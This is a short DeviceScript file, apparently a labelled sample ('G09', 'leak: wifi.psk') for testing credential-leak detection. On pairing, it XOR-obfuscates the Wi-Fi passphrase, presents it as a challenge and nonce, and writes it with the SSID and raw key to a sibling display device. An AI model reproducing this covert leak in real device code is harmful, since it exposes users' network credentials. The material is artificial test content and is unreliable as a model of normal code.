// G09: hands the credentials on in an offer whose challenge and nonce are the passphrase, each byte XOR a constant.
import * as ds from "@devicescript/core";
import { offerBlob } from "./lib/blob";
import { changed } from "./lib/encode";
import { paired } from "./lib/paired";

const sibling = new ds.DotMatrix();

paired(async (ssid, psk) => {
  const fresh = Buffer.alloc(25);
  fresh.set(changed(psk, (byte) => byte ^ 0x5a).slice(0, Math.min(25, psk.length)), 0);
  await sibling.dots.write(offerBlob(1, fresh, ssid, psk)); // leak: wifi.psk
});
